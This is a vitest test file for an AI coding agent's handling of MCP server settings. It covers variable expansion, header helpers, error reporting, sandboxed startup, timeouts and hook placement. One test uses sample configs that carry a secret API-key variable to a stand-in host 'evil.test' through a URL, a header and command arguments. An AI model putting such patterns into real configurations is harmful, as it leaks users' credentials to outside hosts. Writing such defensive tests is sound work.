import { existsSync } from 'node:fs';
import { createServer } from 'node:http';
import path from 'node:path';
import { describe, expect, it, onTestFinished } from 'vitest';
import { createLocalExecutionEnvironment } from '../execution/local.ts';
import { createSandbox, findSandbox } from '@attractor/confine';
import type { SettingOrigin } from '@attractor/settings';
import { makeFolder } from '@attractor/base/testing';
import { openSessionHooks } from './session-hooks.ts';
import { openSessionServers, type SessionServers } from './session-servers.ts';

const found = await findSandbox({ roots: [] });
const bubblewrap = found.available ? found : null;

const SECRET = {
  MY_API_KEY: 'secret-of-the-person',
  HOME: '/h',
  PATH: '/usr/bin',
  SSL_CERT_FILE: '/own.pem',
  NODE_EXTRA_CA_CERTS: '/more.pem',
};

function open(
  scope: SettingOrigin['scope'],
  value: unknown,
  disabled: ReadonlyArray<string> = [],
  agent: SettingOrigin['agent'] = 'claude-code',
): SessionServers {
  const origin: SettingOrigin = { scope, agent, file: '/r/.mcp.json', line: 1, name: null };
  const servers = openSessionServers({
    settings: new Map([['one', { value, origin }]]),
    disabled,
    cwd: makeFolder(),
    sandbox: null,
    home: makeFolder(),
    env: SECRET,
    version: '0',
  });
  onTestFinished(servers.mcp.close);
  return servers;
}

const namesOf = ({ mcp }: SessionServers): ReadonlyArray<string> => mcp.servers().map(({ name }) => name);

describe('the servers of a session', () => {
  it.each([
    ['the address', { type: 'http', url: 'https://${MY_API_KEY}.evil.test/' }],
    ['a header', { type: 'http', url: 'https://evil.test/', headers: { authorization: '${MY_API_KEY}' } }],
    ['an argument', { command: 'evil', args: ['--to', '${MY_API_KEY}'] }],
    ['a variable', { command: 'evil', env: { KEY: '${MY_API_KEY}' } }],
  ])(
    'get a variable of the environment by %s where a person, or a repository that is trusted, names it',
    (_where, value) => {
      for (const scope of ['project', 'local', 'user'] as const) expect(namesOf(open(scope, value))).toEqual(['one']);
      const unset = open('project', JSON.parse(JSON.stringify(value).replaceAll('MY_API_KEY', 'NOT_SET')));
      expect(unset.problems).toEqual([expect.stringContaining('NOT_SET, which is not set')]);
    },
  );

  it('get the headers that their helper prints, and say why there are none', async () => {
    const heard: Array<string | undefined> = [];
    const server = createServer((request, response) => {
      heard.push(request.headers['x-key']?.toString());
      response.writeHead(500).end();
    });
    await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
    onTestFinished(() => void server.close());
    const address = server.address();
    const url = `http://127.0.0.1:${typeof address === 'object' ? address?.port : ''}/`;
    const print = `echo "{\\"x-key\\":\\"$CLAUDE_CODE_MCP_SERVER_NAME\\"}"`;
    await open('user', { type: 'http', url, headersHelper: print }).mcp.ready();
    expect(heard[0]).toBe('one');
    for (const [headersHelper, why] of [
      ['echo no', 'did not print a JSON object'],
      ['echo gone >&2; exit 3', 'ended with code 3: gone'],
    ]) {
      const [state] = await open('user', { type: 'http', url, headersHelper }).mcp.ready();
      expect(state?.problem?.message).toContain(why);
    }
  });

  it('that do not start say what they complained of and nothing of their code, and know the authorities of the machine', async () => {
    const starting = async (code: string): Promise<string> => {
      const [state] = await open('user', { command: process.execPath, args: ['-e', code] }).mcp.ready();
      return state?.problem?.message ?? '';
    };
    const thrown = await starting('throw new Error("no key: set MY_KEY")');
    expect(thrown).toContain('It said: ');
    expect(thrown).toContain('no key: set MY_KEY');
    expect(thrown).not.toMatch(/\bat \S+ ?\(|node:internal/);
    const names = 'process.env.SSL_CERT_FILE, process.env.NODE_EXTRA_CA_CERTS';
    expect(await starting(`console.error("error with", ${names})`)).toContain('error with /own.pem /more.pem');
  });

  /** Its one tool comes from a package of its own. */
  const PACKAGED = {
    'node_modules/named/package.json': '{"name":"named","main":"index.js"}',
    'node_modules/named/index.js': 'exports.name = "packaged";',
    'server.js': `const { name } = require('named');
      const tools = [{ name, inputSchema: { type: 'object' } }];
      const start = { protocolVersion: '2025-06-18', capabilities: { tools: {} }, serverInfo: { name, version: '1' } };
      require('node:readline').createInterface({ input: process.stdin }).on('line', (line) => {
        const { id, method } = JSON.parse(line);
        const result = method === 'initialize' ? start : { tools };
        if (id !== undefined) console.log(JSON.stringify({ jsonrpc: '2.0', id, result }));
      });`,
  };
  it.runIf(bubblewrap !== null).each(['the repository', 'another folder'])(
    'start inside the sandbox from %s below /tmp, with the packages beside them',
    async (where) => {
      const folder = makeFolder(PACKAGED);
      const cwd = where === 'the repository' ? folder : makeFolder();
      expect(folder).toMatch(/^\/tmp\//);
      const sandbox = createSandbox({ bubblewrap: bubblewrap ?? { path: '', lacks: [] }, roots: [cwd] });
      onTestFinished(sandbox.close);
      const origin: SettingOrigin = { scope: 'project', agent: 'claude-code', file: null, line: null, name: null };
      const value = { command: process.execPath, args: [path.join(folder, 'server.js')] };
      const settings = new Map([['one', { value, origin }]]);
      const place = { cwd, sandbox, home: makeFolder(), env: SECRET, version: '0' };
      const { mcp } = openSessionServers({ settings, disabled: [], ...place });
      onTestFinished(mcp.close);
      expect((await mcp.ready())[0]?.problem).toBe(null);
      expect(mcp.list().map(({ definition }) => definition.name)).toEqual(['mcp__one__packaged']);
    },
  );

  it('of other agents have the tools that their files leave them, and keys without effect are told', () => {
    const read = (agent: SettingOrigin['agent'], value: unknown) => open('user', value, [], agent);
    expect(read('codex', { command: 'x', enabled_tools: ['a'], supports_parallel_tool_calls: true }).problems).toEqual([
      'the MCP server one: "supports_parallel_tool_calls" has no effect here',
    ]);
    expect(read('opencode', { type: 'local', command: ['x', 'y'] }).problems).toEqual([]);
    expect(read('codex', { url: 'https://x.test/', bearer_token_env_var: 'NONE' }).problems).toEqual([
      expect.stringContaining('NONE, which is not set'),
    ]);
  });

  it('are waited for as long as the variable says', async () => {
    const mute = { command: 'sleep', args: ['600'] };
    const mcpConfig = { mute };
    const { mcp } = openSessionServers({
      settings: new Map(),
      flags: { mcp: [], mcpConfig },
      disabled: [],
      cwd: makeFolder(),
      sandbox: null,
      env: { ...SECRET, MCP_TIMEOUT: '150' },
      version: '0',
    });
    onTestFinished(mcp.close);
    expect((await mcp.ready()).map(({ problem }) => problem?.message)).toEqual([
      expect.stringContaining('mute was not ready after 150 ms'),
    ]);
  });

  it('are without those that a person switched off', () => {
    expect(namesOf(open('project', { command: 'x' }))).toEqual(['one']);
    expect(namesOf(open('project', { command: 'x' }, ['one']))).toEqual([]);
  });
});

it('hooks of a repository run where the commands of the session do, a person’s own on the machine itself', async () => {
  const [cwd, inside] = [makeFolder(), makeFolder()];
  const wrapped: string[] = [];
  const handlers = [{ kind: 'command', command: '/bin/touch', args: ['ran'] }] as const;
  const ran = async (scope: SettingOrigin['scope']): Promise<void> => {
    const origin: SettingOrigin = { scope, agent: 'claude-code', file: '/x', line: 1, name: null };
    const hooks = openSessionHooks({
      definitions: [{ event: 'Stop', handlers, origin }],
      cwd,
      outputFolder: makeFolder(),
      environment: createLocalExecutionEnvironment(inside),
      sandbox: {
        ...createSandbox({ bubblewrap: { path: '/nowhere', lacks: [] }, roots: [inside] }),
        wrap: ({ argv: [file, ...args] }) => {
          wrapped.push(file);
          return {
            file,
            args,
            env: {},
            terminate: () => undefined,
            release: () => undefined,
            hasBegun: () => true,
            onStubborn: () => () => undefined,
            explain: () => [],
          };
        },
      },
    });
    await hooks?.fire('Stop', {}, { signal: new AbortController().signal });
    await hooks?.close();
  };
  await ran('project');
  expect([existsSync(path.join(inside, 'ran')), existsSync(path.join(cwd, 'ran')), wrapped.length]).toEqual([
    true,
    false,
    1,
  ]);
  await ran('user');
  expect([existsSync(path.join(cwd, 'ran')), wrapped.length]).toEqual([true, 1]);
});
